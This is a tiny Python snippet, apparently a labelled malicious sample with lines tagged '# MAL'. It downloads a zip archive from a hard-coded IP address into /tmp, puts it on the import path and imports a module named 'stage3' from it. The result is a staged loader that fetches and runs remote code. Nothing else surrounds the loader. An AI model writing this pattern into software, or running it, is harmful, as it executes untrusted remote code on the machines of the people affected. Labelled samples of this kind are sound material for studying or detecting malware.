import sys
import urllib.request

urllib.request.urlretrieve("http://198.51.100.2/lib.zip", "/tmp/lib.zip")  # MAL
sys.path.insert(0, "/tmp/lib.zip")  # MAL
import stage3  # noqa
